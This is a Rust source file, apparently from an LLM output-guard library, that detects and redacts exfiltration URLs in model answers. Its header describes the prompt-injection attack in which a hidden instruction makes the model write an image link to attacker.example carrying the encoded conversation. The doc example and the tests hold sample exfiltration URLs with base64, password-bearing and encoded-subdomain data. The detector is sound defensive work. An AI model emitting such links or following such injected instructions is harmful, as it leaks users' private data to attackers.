//! Exfiltration links in answers (`exfil.image`, `exfil.link`).
//!
//! The classic attack: an instruction hidden in a document makes the model write
//! `![](https://attacker.example/log?d=<the conversation, encoded>)`; the chat client fetches
//! the image and the data is gone without a click. Every URL of the answer is found (markdown
//! images and links, reference-style definitions, HTML `src`/`href`/`srcset`, CSS `url(...)`,
//! autolinks `<https://...>` and bare URLs), its host compared with `allowed_hosts`, and its
//! query, fragment, path and subdomain labels measured for data: long values, high-entropy
//! tokens, base64 or hex blobs, percent-encoded sentences.

use std::borrow::Cow;
use std::ops::Range;

use super::OutputConfig;
use crate::detect::secrets::entropy;
use crate::detect::{Detector, Input};
use crate::error::{DetectorError, Error};
use crate::tools::egress::{HostPat, matches_domain, parse_patterns};
use crate::verdict::{Action, Category, Finding};

/// How a URL is used in the answer.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Use {
    /// Fetched as soon as the answer renders (images, media, CSS).
    Image,
    /// Fetched when clicked or unfurled.
    Link,
}

/// How much data a URL carries.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Data {
    None,
    /// Some data: a short value, a few words.
    Weak,
    /// A random-looking token: an id, or an encrypted or hashed secret.
    Token,
    /// Text: a sentence, a long value, base64 or hex of readable text.
    Strong,
}

/// The exfiltration-link detector (`exfil`).
///
/// ```
/// use palisade::output::{Exfil, OutputConfig};
/// use palisade::{Action, Context, Guard, Pipeline};
///
/// let guard = Pipeline::builder().output(Exfil::new(&OutputConfig::default())?).build()?;
/// let answer = "Done! ![status](https://img.attacker.example/p.png?d=U2VjcmV0IHBsYW5zIGZvciBRMw)";
/// let v = guard.check_output(&Context::new(), answer);
/// assert_eq!(v.action(), Action::Redact);
/// assert_eq!(v.text(), "Done! ![status]([REDACTED:exfil.image])");
/// # Ok::<(), palisade::Error>(())
/// ```
#[derive(Clone, Debug)]
pub struct Exfil {
    allowed: Vec<HostPat>,
}

impl Exfil {
    /// An exfiltration detector allowing the hosts of `config.allowed_hosts`.
    pub fn new(config: &OutputConfig) -> Result<Exfil, Error> {
        let allowed = if config.allowed_hosts.is_empty() {
            Vec::new()
        } else {
            parse_patterns(&config.allowed_hosts).map_err(|message| Error::Config {
                file: "<config>".into(),
                line: None,
                field: "output.allowed_hosts".into(),
                message,
            })?
        };
        Ok(Exfil { allowed })
    }
}

/// Byte that ends a URL in running text.
fn ends_url(b: u8) -> bool {
    b.is_ascii_whitespace() || b.is_ascii_control() || b"<>\"'`|\\^{}".contains(&b)
}

/// The URLs of `s`: (range, use). Scheme URLs (`http`, `https`, `ftp`, `ws`, `wss`) and
/// protocol-relative `//host` in HTML attributes.
fn urls(s: &str) -> Vec<(Range<usize>, Use)> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(off) = memchr::memmem::find(&b[i..], b"//") {
        let at = i + off;
        i = at + 2;
        // The scheme before `//`.
        let mut start = at;
        if start > 0 && b[start - 1] == b':' {
            let mut k = start - 1;
            while k > 0 && b[k - 1].is_ascii_alphabetic() {
                k -= 1;
            }
            let scheme = s[k..start - 1].to_ascii_lowercase();
            if !matches!(scheme.as_str(), "http" | "https" | "ftp" | "ws" | "wss") {
                continue;
            }
            start = k;
        } else {
            // Protocol-relative: only right after an attribute's `=` or quote.
            let before = s[..at].trim_end_matches(['"', '\'']);
            if !before.ends_with('=') && !before.ends_with("url(") {
                continue;
            }
        }
        let mut end = at + 2;
        while end < b.len() && !ends_url(b[end]) {
            end += 1;
        }
        // Trailing punctuation is prose, and a `)` or `]` without its opener inside closes
        // markdown.
        while let Some(&last) = b[..end].last() {
            let trim = match last {
                b'.' | b',' | b':' | b';' | b'!' | b'?' | b'*' | b'_' | b'~' => true,
                b')' => {
                    let u = &s[start..end];
                    u.matches('(').count() < u.matches(')').count()
                }
                b']' => {
                    let u = &s[start..end];
                    u.matches('[').count() < u.matches(']').count()
                }
                _ => false,
            };
            if trim && end > at + 2 {
                end -= 1;
            } else {
                break;
            }
        }
        // A `)` or `]` cut inside: markdown `[x](url)` closes at the first unbalanced one.
        let u = &s[start..end];
        let mut depth = 0i32;
        let mut cut = u.len();
        for (k, c) in u.bytes().enumerate() {
            match c {
                b'(' => depth += 1,
                b')' if depth == 0 => {
                    cut = k;
                    break;
                }
                b')' => depth -= 1,
                b']' => {
                    cut = k;
                    break;
                }
                _ => {}
            }
        }
        end = start + cut;
        if end <= at + 2 {
            continue;
        }
        i = end;
        out.push((start..end, how_used(s, start)));
    }
    let refs = image_refs(s);
    if !refs.is_empty() {
        for (range, u) in &mut out {
            if *u == Use::Link && is_image_definition(s, range.start, &refs) {
                *u = Use::Image;
            }
        }
    }
    out
}

/// How the URL starting at `start` is used, from what precedes it.
fn how_used(s: &str, start: usize) -> Use {
    let before = &s[..start];
    let t = before.trim_end_matches(['<', ' ']);
    // Markdown `![alt](url)`: find the `[` that opens the text before `](`.
    if let Some(head) = t.strip_suffix("](").or_else(|| t.strip_suffix("]( ")) {
        let mut depth = 0usize;
        for (k, c) in head.char_indices().rev() {
            match c {
                ']' => depth += 1,
                '[' if depth == 0 => {
                    return if head[..k].ends_with('!') {
                        Use::Image
                    } else {
                        Use::Link
                    };
                }
                '[' => depth -= 1,
                _ => {}
            }
            if head.len() - k > 2000 {
                break;
            }
        }
        return Use::Link;
    }
    // CSS `url(...)`.
    let css = t.trim_end_matches(['"', '\'']);
    if css.to_ascii_lowercase().ends_with("url(") {
        return Use::Image;
    }
    // HTML attributes: `src`, `srcset`, `poster`, `background`, `data` fetch by themselves.
    if let Some(attr) = css.trim_end().strip_suffix('=') {
        let name: String = attr
            .trim_end()
            .chars()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
            .collect::<String>()
            .chars()
            .rev()
            .collect::<String>()
            .to_ascii_lowercase();
        if matches!(
            name.as_str(),
            "src" | "srcset" | "poster" | "background" | "data" | "lowsrc" | "dynsrc"
        ) || name.ends_with("-src")
        {
            return Use::Image;
        }
    }
    // `srcset="a.png 1x, https://..."`: inside an attribute value that began with srcset.
    if let Some(q) = before.rfind(['"', '\''])
        && before[..q]
            .trim_end()
            .to_ascii_lowercase()
            .ends_with("srcset=")
        && !before[q..].contains('>')
    {
        return Use::Image;
    }
    Use::Link
}

/// Labels used as images by reference: `![alt][label]`, `![label][]`, `![label]`.
fn image_refs(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(off) = s[i..].find("![") {
        let at = i + off + 2;
        i = at;
        let Some(close) = s[at..].find(']') else {
            break;
        };
        let alt = &s[at..at + close];
        let rest = &s[at + close + 1..];
        let label = if let Some(r) = rest.strip_prefix('[') {
            match r.find(']') {
                Some(0) => alt,
                Some(e) => &r[..e],
                None => continue,
            }
        } else if rest.starts_with('(') {
            continue;
        } else {
            alt
        };
        out.push(label.trim().to_lowercase());
    }
    out
}

/// Whether the URL at `start` is a reference definition `[label]: url` for an image label.
fn is_image_definition(s: &str, start: usize, refs: &[String]) -> bool {
    let line_start = s[..start].rfind('\n').map_or(0, |k| k + 1);
    let head = s[line_start..start].trim();
    let Some(label) = head
        .strip_suffix(':')
        .or_else(|| head.strip_suffix(": <"))
        .or_else(|| head.strip_suffix(":<"))
        .and_then(|h| h.trim_end().strip_prefix('['))
        .and_then(|h| h.strip_suffix(']'))
    else {
        return false;
    };
    let label = label.trim().to_lowercase();
    refs.contains(&label)
}

fn percent_decode(s: &str) -> Cow<'_, str> {
    if !s.contains(['%', '+']) {
        return Cow::Borrowed(s);
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'%' if i + 2 < b.len() => {
                let hex = std::str::from_utf8(&b[i + 1..i + 3]).unwrap_or("");
                match u8::from_str_radix(hex, 16) {
                    Ok(v) => {
                        out.push(v);
                        i += 3;
                    }
                    Err(_) => {
                        out.push(b'%');
                        i += 1;
                    }
                }
            }
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

/// Whether `s` is readable text (at least 8 bytes, nearly all printable).
fn readable(b: &[u8]) -> bool {
    if b.len() < 8 {
        return false;
    }
    let Ok(t) = std::str::from_utf8(b) else {
        return false;
    };
    let printable = t
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    printable * 10 >= t.chars().count() * 9 && t.chars().any(char::is_alphabetic)
}

fn base64_text(v: &str) -> bool {
    use base64::Engine;
    use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
    use base64::engine::{DecodePaddingMode, general_purpose};
    let lenient =
        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent);
    let t = v.trim_end_matches('=');
    [
        GeneralPurpose::new(&base64::alphabet::STANDARD, lenient),
        GeneralPurpose::new(&base64::alphabet::URL_SAFE, lenient),
    ]
    .iter()
    .any(|e| e.decode(t).is_ok_and(|b| readable(&b)))
        || general_purpose::STANDARD
            .decode(v)
            .is_ok_and(|b| readable(&b))
}

fn hex_text(v: &str) -> bool {
    if !v.len().is_multiple_of(2) {
        return false;
    }
    let b: Option<Vec<u8>> = (0..v.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&v[i..i + 2], 16).ok())
        .collect();
    b.is_some_and(|b| readable(&b))
}

/// How much data one value (a query value, a path segment, a label) carries, and why.
fn value_data(raw: &str) -> (Data, String) {
    let v = percent_decode(raw);
    let v = v.as_ref();
    let words = v.split_whitespace().filter(|w| w.len() > 1).count();
    let token = v.split_whitespace().map(str::len).max().unwrap_or(0);
    let alnum = v.bytes().filter(u8::is_ascii_alphanumeric).count();
    let b64 = v.len() >= 20
        && v.bytes()
            .all(|c| c.is_ascii_alphanumeric() || b"+/=-_".contains(&c))
        && v.bytes()
            .any(|c| c.is_ascii_digit() || c.is_ascii_uppercase())
        && v.bytes().any(|c| c.is_ascii_lowercase());
    let hex = v.len() >= 24 && v.bytes().all(|c| c.is_ascii_hexdigit());
    if words >= 6 {
        return (Data::Strong, format!("encoded text ({words} words)"));
    }
    if v.len() >= 64 {
        return (Data::Strong, format!("{} characters", v.len()));
    }
    if hex && hex_text(v) {
        return (
            Data::Strong,
            format!("hex-encoded text ({} digits)", v.len()),
        );
    }
    if b64 && !hex && base64_text(v) {
        return (
            Data::Strong,
            format!("base64-encoded text ({} characters)", v.len()),
        );
    }
    if (b64 && entropy(v) >= 3.8) || hex || (token >= 20 && alnum >= 16 && entropy(v) >= 4.0) {
        return (
            Data::Token,
            format!("a random-looking token of {token} characters"),
        );
    }
    if v.len() >= 16 || words >= 3 {
        return (Data::Weak, format!("{} characters", v.len()));
    }
    (Data::None, String::new())
}

/// What data a parsed URL carries, and where.
fn url_data(url: &url::Url) -> (Data, String) {
    let mut best = (Data::None, String::new());
    let mut take = |d: (Data, String), place: String| {
        if d.0 > best.0 {
            best = (d.0, format!("{} in {place}", d.1));
        }
    };
    for part in [url.query(), url.fragment()].into_iter().flatten() {
        let whole = value_data(part);
        let is_query = url.query() == Some(part);
        let place = if is_query {
            "the query"
        } else {
            "the fragment"
        };
        for pair in part.split(['&', ';']) {
            let (k, v) = pair.split_once('=').unwrap_or(("", pair));
            take(value_data(v), format!("{place} ({k}=…)"));
        }
        take(whole, place.to_owned());
    }
    if let Some(segments) = url.path_segments() {
        for seg in segments {
            let stem = seg.rsplit_once('.').map_or(seg, |(a, _)| a);
            let (d, why) = value_data(stem);
            // Paths carry ids and hashes legitimately: only text counts fully, a long
            // value or a random token is weak evidence.
            let d = match d {
                Data::Strong if why.contains("text") => Data::Strong,
                Data::Strong | Data::Token => Data::Weak,
                other => other,
            };
            take((d, why), "the path".to_owned());
        }
    }
    if let Some(url::Host::Domain(host)) = url.host() {
        let labels: Vec<&str> = host.trim_end_matches('.').split('.').collect();
        if labels.len() > 2 {
            let sub = &labels[..labels.len() - 2];
            let joined = sub.join("");
            for l in sub {
                let long = l.len() >= 24;
                let encoded =
                    l.len() >= 16 && l.bytes().any(|c| c.is_ascii_digit()) && entropy(l) >= 3.5;
                if long || encoded {
                    take(
                        (
                            Data::Strong,
                            format!("an encoded label of {} characters", l.len()),
                        ),
                        "the host name".to_owned(),
                    );
                }
            }
            if joined.len() >= 48 || sub.len() >= 5 {
                take(
                    (
                        Data::Strong,
                        format!(
                            "{} subdomain labels ({} characters)",
                            sub.len(),
                            joined.len()
                        ),
                    ),
                    "the host name".to_owned(),
                );
            }
        }
    }
    best
}

impl Detector for Exfil {
    fn id(&self) -> &str {
        "exfil"
    }

    fn detect(&self, input: &Input<'_>, out: &mut Vec<Finding>) -> Result<(), DetectorError> {
        let s = input.text.original();
        if !s.contains("//") {
            return Ok(());
        }
        for (range, how) in urls(s) {
            let raw = &s[range.clone()];
            let full = if raw.starts_with("//") {
                Cow::Owned(format!("https:{raw}"))
            } else {
                Cow::Borrowed(raw)
            };
            let Ok(url) = url::Url::parse(&full) else {
                continue;
            };
            let host = match url.host() {
                Some(url::Host::Domain(d)) => d.trim_end_matches('.').to_owned(),
                Some(url::Host::Ipv4(ip)) => ip.to_string(),
                Some(url::Host::Ipv6(ip)) => ip.to_string(),
                None => continue,
            };
            if !self.allowed.is_empty()
                && (matches_domain(&self.allowed, &host)
                    || host.parse::<std::net::IpAddr>().is_ok_and(|ip| {
                        self.allowed
                            .iter()
                            .any(|p| matches!(p, HostPat::Ip(a) if *a == ip))
                    }))
            {
                continue;
            }
            let (data, why) = url_data(&url);
            let (id, score) = match (how, data) {
                (Use::Image, Data::Strong | Data::Token) => ("exfil.image", 0.95),
                (Use::Image, Data::Weak) => ("exfil.image", 0.7),
                (Use::Image, Data::None) => ("exfil.image", 0.3),
                (Use::Link, Data::Strong) => ("exfil.link", 0.8),
                (Use::Link, _) => continue,
            };
            let what = match how {
                Use::Image => "an image the client fetches by itself",
                Use::Link => "a link",
            };
            let message = if data == Data::None {
                format!("{what} from {host}, a host not on the allowlist")
            } else {
                format!("{what} to {host} (not on the allowlist) with {why}")
            };
            out.push(Finding::new(
                id,
                Category::Output,
                range,
                score,
                Action::Redact,
                message,
            ));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(s: &str) -> Vec<(String, Use)> {
        urls(s)
            .into_iter()
            .map(|(r, u)| (s[r].to_owned(), u))
            .collect()
    }

    #[test]
    fn urls_are_cut_at_markdown_and_prose_boundaries() {
        assert_eq!(
            found("see ![x](https://a.example/p.png?q=1) and (https://b.example/x)."),
            vec![
                ("https://a.example/p.png?q=1".into(), Use::Image),
                ("https://b.example/x".into(), Use::Link)
            ]
        );
        assert_eq!(
            found("<img alt=\"\" src=\"//c.example/t.gif?id=9\">"),
            vec![("//c.example/t.gif?id=9".into(), Use::Image)]
        );
        assert_eq!(
            found("[x][1]\n![y][logo]\n\n[logo]: https://d.example/l.png\n[1]: https://e.example/"),
            vec![
                ("https://d.example/l.png".into(), Use::Image),
                ("https://e.example/".into(), Use::Link)
            ]
        );
        assert_eq!(
            found("https://en.wikipedia.org/wiki/Rust_(programming_language)"),
            vec![(
                "https://en.wikipedia.org/wiki/Rust_(programming_language)".into(),
                Use::Link
            )]
        );
    }

    #[test]
    fn data_measures() {
        let d = |u: &str| url_data(&url::Url::parse(u).unwrap()).0;
        assert_eq!(d("https://www.google.com/search?q=rust+regex"), Data::None);
        assert_eq!(
            d("https://www.google.com/search?q=rust+regex+crate+docs"),
            Data::Weak
        );
        assert_eq!(d("https://example.com/"), Data::None);
        assert_eq!(
            d("https://x.example/?q=the+user+said+their+password+is+hunter2"),
            Data::Strong
        );
        assert_eq!(
            d("https://x.example/?d=U2VjcmV0IHBsYW5zIGZvciBRMw"),
            Data::Strong
        );
        assert_eq!(
            d("https://github.com/rust-lang/rust/commit/4f1c9d0e3b2a8f7e6d5c4b3a29180716e5d4c3b2"),
            Data::Weak
        );
        assert_eq!(
            d("https://am9obkBleGFtcGxlLmNvbQ1234.x.attacker.example/p.png"),
            Data::Strong
        );
    }
}
